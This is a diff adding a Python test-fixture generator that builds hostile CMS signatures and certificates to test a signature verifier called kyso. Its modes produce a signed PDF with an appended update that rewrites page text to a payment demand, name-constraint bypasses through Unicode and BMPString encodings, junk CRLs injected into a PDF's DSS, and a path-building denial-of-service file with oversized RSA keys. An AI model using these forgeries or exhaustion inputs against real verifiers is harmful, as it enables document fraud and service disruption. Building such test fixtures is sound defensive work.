@@ -1,0 +1,306 @@
+"""CMS signatures and certificates a verifier must not believe, for tests/verify_cli.rs -- made
+with the OpenSSL CLI, pyca/cryptography, asn1crypto and pyHanko, nothing of kyso's (found by an
+attacker's reading of kyso's verifier, 2026-12-02):
+
+    python3 cms_attacks.py trailing DIR       DIR/signed.p7m: OpenSSL's attached CAdES around a
+                                              one-page PDF; DIR/forged.p7m: the same with an
+                                              incremental update of that PDF appended (offsets
+                                              from its %PDF- header), replacing the page's text:
+                                              a PDF reader shows the update
+    python3 cms_attacks.py pss DIR            DIR/pss-1024.p7m and pss-2048.p7m: OpenSSL CAdES by
+                                              RSA-PSS keys (id-RSASSA-PSS) of those sizes
+    python3 cms_attacks.py names DIR          under DIR/sub.pem, which excludes the subtree
+                                              C=VN, O=Bộ Công an (NFC, UTF8String): leaves whose O
+                                              is that name composed, decomposed (NFD), as a
+                                              BMPString, and one outside it (DIR/<leaf>.p7m)
+    python3 cms_attacks.py dss-junk IN OUT ROOT
+                                              IN with a pyHanko update putting 64 junk CRLs (the
+                                              issuer name of ROOT, signed by another key) first
+                                              in its /DSS /CRLs
+    python3 cms_attacks.py paths DIR          DIR/paths.p7m: 2 SignerInfos with 16 signature
+                                              time-stamps each, every token by a TSA certificate
+                                              of its own, all naming an issuer shared by 70 junk
+                                              certificates with RSA-8192 keys (e = 2^33-1)
+
+Each DIR gets root.pem, the anchor to trust.
+"""
+import datetime as dt
+import hashlib
+import os
+import re
+import secrets
+import subprocess
+import sys
+import unicodedata
+
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import padding, rsa
+from cryptography.x509.name import _ASN1Type
+from cryptography.x509.oid import NameOID
+
+UTC = dt.timezone.utc
+NOW = dt.datetime.now(UTC)
+mode = sys.argv[1]
+FIXTURE = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'fixtures', 'giay-phep.pdf')
+
+
+def sh(*args, cwd):
+    subprocess.run(args, check=True, capture_output=True, cwd=cwd)
+
+
+def pem(path, obj):
+    with open(path, 'wb') as f:
+        f.write(obj.public_bytes(serialization.Encoding.PEM))
+
+
+def key_pem(path, key):
+    with open(path, 'wb') as f:
+        f.write(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                                  serialization.NoEncryption()))
+
+
+def make_cert(subject, key, issuer, issuer_key, ca=False, extra=()):
+    b = (x509.CertificateBuilder().subject_name(subject).issuer_name(issuer)
+         .public_key(key.public_key()).serial_number(x509.random_serial_number())
+         .not_valid_before(NOW - dt.timedelta(days=1)).not_valid_after(NOW + dt.timedelta(days=30))
+         .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
+         .add_extension(x509.KeyUsage(digital_signature=not ca, content_commitment=not ca,
+                                      key_encipherment=False, data_encipherment=False,
+                                      key_agreement=False, key_cert_sign=ca, crl_sign=ca,
+                                      encipher_only=False, decipher_only=False), critical=True))
+    for ext, crit in extra:
+        b = b.add_extension(ext, critical=crit)
+    return b.sign(issuer_key, hashes.SHA256())
+
+
+def name(*attrs):
+    return x509.Name([x509.NameAttribute(NameOID.COUNTRY_NAME, 'VN')] + list(attrs))
+
+
+def root(d):
+    k = rsa.generate_private_key(65537, 2048)
+    n = name(x509.NameAttribute(NameOID.ORGANIZATION_NAME, 'Kyso Hostile PKI'),
+             x509.NameAttribute(NameOID.COMMON_NAME, 'Hostile Test Root'))
+    c = make_cert(n, k, n, k, ca=True)
+    pem(os.path.join(d, 'root.pem'), c)
+    return c, k
+
+
+def cms_sign(d, cert, key, content, out, extra=()):
+    pem(os.path.join(d, 'signer.pem'), cert)
+    key_pem(os.path.join(d, 'signer.key'), key)
+    with open(os.path.join(d, 'content.bin'), 'wb') as f:
+        f.write(content)
+    sh('openssl', 'cms', '-sign', '-binary', '-nodetach', '-cades', '-md', 'sha256', '-in', 'content.bin',
+       '-signer', 'signer.pem', '-inkey', 'signer.key', '-outform', 'DER', '-out', out, *extra, cwd=d)
+
+
+if mode == 'trailing':
+    d = sys.argv[2]
+    os.makedirs(d, exist_ok=True)
+    rc, rk = root(d)
+    k = rsa.generate_private_key(65537, 2048)
+    c = make_cert(name(x509.NameAttribute(NameOID.COMMON_NAME, 'Signer')), k, rc.subject, rk)
+    pdf = open(FIXTURE, 'rb').read()
+    cms_sign(d, c, k, pdf, 'signed.p7m')
+    signed = open(os.path.join(d, 'signed.p7m'), 'rb').read()
+    base = signed.index(b'%PDF-')
+    # The update, numbered from the embedded PDF's first byte: page 3 gets a new content
+    # stream and a font of its own.
+    text = b'BT /FX 28 Tf 72 700 Td (PAY 999999 VND) Tj ET'
+    prev = int(re.findall(rb'startxref\s+(\d+)', pdf)[-1])
+    size = max(int(s) for s in re.findall(rb'/Size\s+(\d+)', pdf))
+    body = bytearray(b'\n')
+    offs = {}
+    for num, obj in [
+        (3, b'<< /Type /Page /Parent 1 0 R /Contents %d 0 R /Resources << /Font << /FX << /Type /Font '
+            b'/Subtype /Type1 /BaseFont /Helvetica >> >> >> >>' % size),
+        (size, b'<< /Length %d >>\nstream\n' % len(text) + text + b'\nendstream'),
+    ]:
+        offs[num] = len(signed) - base + len(body)
+        body += b'%d 0 obj\n' % num + obj + b'\nendobj\n'
+    x = len(signed) - base + len(body)
+    body += b'xref\n'
+    for num in sorted(offs):
+        body += b'%d 1\n%010d 00000 n\r\n' % (num, offs[num])
+    body += b'trailer\n<< /Size %d /Root 2 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (size + 1, prev, x)
+    open(os.path.join(d, 'forged.p7m'), 'wb').write(signed + bytes(body))
+elif mode == 'pss':
+    d = sys.argv[2]
+    os.makedirs(d, exist_ok=True)
+    rc, rk = root(d)
+    key_pem(os.path.join(d, 'root.key'), rk)
+    with open(os.path.join(d, 'ext.cnf'), 'w') as f:
+        f.write('[ee]\nbasicConstraints = critical, CA:false\nkeyUsage = critical, digitalSignature, nonRepudiation\n')
+    with open(os.path.join(d, 'content.bin'), 'wb') as f:
+        f.write('Quyết định cấp phép\n'.encode())
+    for bits in (1024, 2048):
+        sh('openssl', 'genpkey', '-algorithm', 'RSA-PSS', '-pkeyopt', f'rsa_keygen_bits:{bits}', '-out',
+           f'pss-{bits}.key', cwd=d)
+        sh('openssl', 'req', '-new', '-key', f'pss-{bits}.key', '-subj', f'/C=VN/CN=Signer PSS {bits}',
+           '-out', f'pss-{bits}.csr', cwd=d)
+        sh('openssl', 'x509', '-req', '-in', f'pss-{bits}.csr', '-CA', 'root.pem', '-CAkey', 'root.key',
+           '-set_serial', str(bits), '-days', '30', '-extfile', 'ext.cnf', '-extensions', 'ee',
+           '-out', f'pss-{bits}.pem', cwd=d)
+        sh('openssl', 'cms', '-sign', '-binary', '-nodetach', '-cades', '-md', 'sha256', '-in', 'content.bin',
+           '-signer', f'pss-{bits}.pem', '-inkey', f'pss-{bits}.key', '-keyopt', 'rsa_padding_mode:pss',
+           '-outform', 'DER', '-out', f'pss-{bits}.p7m', cwd=d)
+elif mode == 'names':
+    d = sys.argv[2]
+    os.makedirs(d, exist_ok=True)
+    rc, rk = root(d)
+    bca = unicodedata.normalize('NFC', 'Bộ Công an')
+    sk = rsa.generate_private_key(65537, 2048)
+    excluded = x509.DirectoryName(x509.Name([x509.NameAttribute(NameOID.COUNTRY_NAME, 'VN'),
+                                             x509.NameAttribute(NameOID.ORGANIZATION_NAME, bca)]))
+    sub = make_cert(name(x509.NameAttribute(NameOID.ORGANIZATION_NAME, 'Kyso Hostile PKI'),
+                         x509.NameAttribute(NameOID.COMMON_NAME, 'Constrained CA')), sk, rc.subject, rk, ca=True,
+                    extra=[(x509.NameConstraints(permitted_subtrees=None, excluded_subtrees=[excluded]), True)])
+    pem(os.path.join(d, 'sub.pem'), sub)
+    for leaf, org in [
+        ('nfc', x509.NameAttribute(NameOID.ORGANIZATION_NAME, bca)),
+        ('nfd', x509.NameAttribute(NameOID.ORGANIZATION_NAME, unicodedata.normalize('NFD', bca))),
+        ('bmp', x509.NameAttribute(NameOID.ORGANIZATION_NAME, bca, _type=_ASN1Type.BMPString)),
+        ('outside', x509.NameAttribute(NameOID.ORGANIZATION_NAME, 'Sở Tư pháp')),
+    ]:
+        k = rsa.generate_private_key(65537, 2048)
+        c = make_cert(name(org, x509.NameAttribute(NameOID.COMMON_NAME, f'Signer {leaf}')), k, sub.subject, sk)
+        cms_sign(d, c, k, 'Công văn\n'.encode(), f'{leaf}.p7m', extra=('-certfile', 'sub.pem'))
+elif mode == 'dss-junk':
+    from pyhanko.pdf_utils import generic
+    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+    src, out, root_pem = sys.argv[2], sys.argv[3], sys.argv[4]
+    issuer = x509.load_pem_x509_certificate(open(root_pem, 'rb').read()).subject
+    other = rsa.generate_private_key(65537, 2048)
+    junk = []
+    for i in range(64):
+        crl = (x509.CertificateRevocationListBuilder().issuer_name(issuer)
+               .last_update(NOW - dt.timedelta(hours=1)).next_update(NOW + dt.timedelta(days=7))
+               .add_extension(x509.CRLNumber(1000 + i), critical=False)
+               .sign(other, hashes.SHA256()))
+        junk.append(crl.public_bytes(serialization.Encoding.DER))
+    w = IncrementalPdfFileWriter(open(src, 'rb'), strict=False)
+    root_dict = w.root
+    dss = root_dict['/DSS']
+    refs = [w.add_object(generic.StreamObject(stream_data=j)) for j in junk]
+    old = dss.get('/CRLs', generic.ArrayObject())
+    dss['/CRLs'] = generic.ArrayObject(refs + list(old))
+    if isinstance(root_dict.raw_get('/DSS'), generic.IndirectObject):
+        w.mark_update(root_dict.raw_get('/DSS'))
+    else:
+        w.update_root()
+    with open(out, 'wb') as f:
+        w.write(f)
+elif mode == 'paths':
+    from asn1crypto import algos
+    from asn1crypto import cms as acms
+    from asn1crypto import core as ac
+    from asn1crypto import keys as ak
+    from asn1crypto import tsp as atsp
+    from asn1crypto import x509 as ax
+    d = sys.argv[2]
+    os.makedirs(d, exist_ok=True)
+    SIGNERS, TOKENS, JUNK = 2, 16, 70
+    SHA256_RSA = algos.SignedDigestAlgorithm({'algorithm': 'sha256_rsa'})
+    SHA256 = algos.DigestAlgorithm({'algorithm': 'sha256'})
+
+    def tlv(tag, body):
+        n = len(body)
+        if n < 0x80:
+            return bytes([tag, n]) + body
+        nb = n.to_bytes((n.bit_length() + 7) // 8, 'big')
+        return bytes([tag, 0x80 | len(nb)]) + nb + body
+
+    def setof(items, tag=0x31):
+        return tlv(tag, b''.join(sorted(items)))
+
+    def seq(*items):
+        return tlv(0x30, b''.join(items))
+
+    def oid(s):
+        return ac.ObjectIdentifier(s).dump()
+
+    def aname(cn):
+        return ax.Name.build({'common_name': cn})
+
+    def tbs(serial, issuer, subject, spki, exts=None):
+        t = lambda y: ax.Time(name='utc_time', value=dt.datetime(y, 1, 1, tzinfo=UTC))
+        return ax.TbsCertificate({'version': 'v3', 'serial_number': serial, 'signature': SHA256_RSA,
+                                  'issuer': aname(issuer), 'subject': aname(subject),
+                                  'validity': {'not_before': t(2024), 'not_after': t(2040)},
+                                  'subject_public_key_info': spki, 'extensions': exts or []})
+
+    def acert(t, sig):
+        return ax.Certificate({'tbs_certificate': t, 'signature_algorithm': SHA256_RSA, 'signature_value': sig})
+
+    def spki_of(k):
+        return ak.PublicKeyInfo.load(k.public_key().public_bytes(
+            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo))
+
+    def big_spki():
+        n = secrets.randbits(8192) | (1 << 8191) | 1
+        return ak.PublicKeyInfo({'algorithm': {'algorithm': 'rsa'},
+                                 'public_key': ak.RSAPublicKey({'modulus': n, 'public_exponent': (1 << 33) - 1})})
+
+    def rsasign(k, data):
+        return k.sign(data, padding.PKCS1v15(), hashes.SHA256())
+
+    def ias(c):
+        return acms.IssuerAndSerialNumber({'issuer': c['tbs_certificate']['issuer'],
+                                           'serial_number': c['tbs_certificate']['serial_number'].native})
+
+    def attr(o, *vals):
+        return seq(oid(o), setof(list(vals)))
+
+    def signer_info(k, c, econtent_type, econtent, extra_signed=(), unsigned=()):
+        sa = [attr('1.2.840.113549.1.9.3', oid(econtent_type)),
+              attr('1.2.840.113549.1.9.4', tlv(0x04, hashlib.sha256(econtent).digest()))] + list(extra_signed)
+        sa_set = setof(sa)
+        sig = rsasign(k, sa_set)
+        body = (ac.Integer(1).dump() + ias(c).dump() + SHA256.dump() + b'\xa0' + sa_set[1:]
+                + algos.SignedDigestAlgorithm({'algorithm': 'rsassa_pkcs1v15'}).dump() + tlv(0x04, sig))
+        if unsigned:
+            body += setof(list(unsigned), tag=0xa1)
+        return tlv(0x30, body), sig
+
+    def signed_data(econtent_type, econtent, sis, certs=()):
+        body = (ac.Integer(3 if econtent_type != '1.2.840.113549.1.7.1' else 1).dump() + setof([SHA256.dump()])
+                + seq(oid(econtent_type), tlv(0xa0, tlv(0x04, econtent))))
+        if certs:
+            body += setof([c.dump() for c in certs], tag=0xa0)
+        body += setof(sis)
+        return seq(oid('1.2.840.113549.1.7.2'), tlv(0xa0, tlv(0x30, body)))
+
+    signer_k = rsa.generate_private_key(65537, 2048)
+    tsa_k = rsa.generate_private_key(65537, 2048)
+    st = tbs(1, 'Attacker', 'Attacker', spki_of(signer_k))
+    signer = acert(st, rsasign(signer_k, st.dump()))
+    eku = [{'extn_id': 'extended_key_usage', 'critical': True, 'extn_value': ['time_stamping']}]
+    junk = [acert(tbs(1000 + i, 'Junk Root', 'Junk CA', big_spki()), b'\x01') for i in range(JUNK)]
+    # A TSA certificate per token (one key): each is a leaf of its own to build a path for.
+    # Its signature value of 1,024 bytes makes every junk RSA-8192 key run its modexp.
+    tsas = [acert(tbs(2 + i, 'Junk CA', 'Attacker TSA', spki_of(tsa_k), eku), secrets.token_bytes(1024))
+            for i in range(SIGNERS * TOKENS)]
+    content = b'hello\n'
+    sis = []
+    serial = 0
+    for n in range(SIGNERS):
+        stime = attr('1.2.840.113549.1.9.5', ac.UTCTime(dt.datetime(2026, 1, 1, 0, n, tzinfo=UTC)).dump())
+        _, sig = signer_info(signer_k, signer, '1.2.840.113549.1.7.1', content, [stime])
+        toks = []
+        for _ in range(TOKENS):
+            tst = atsp.TSTInfo({'version': 1, 'policy': '1.2.3.4',
+                                'message_imprint': {'hash_algorithm': {'algorithm': 'sha256'},
+                                                    'hashed_message': hashlib.sha256(sig).digest()},
+                                'serial_number': serial + 1, 'gen_time': dt.datetime(2026, 1, 1, tzinfo=UTC)}).dump()
+            tsi, _ = signer_info(tsa_k, tsas[serial], '1.2.840.113549.1.9.16.1.4', tst)
+            toks.append(signed_data('1.2.840.113549.1.9.16.1.4', tst, [tsi], [tsas[serial]]))
+            serial += 1
+        si, _ = signer_info(signer_k, signer, '1.2.840.113549.1.7.1', content, [stime],
+                            [attr('1.2.840.113549.1.9.16.2.14', *toks)])
+        sis.append(si)
+    open(os.path.join(d, 'paths.p7m'), 'wb').write(
+        signed_data('1.2.840.113549.1.7.1', content, sis, [signer] + junk))
+else:
+    sys.exit(f'unknown mode {mode}')
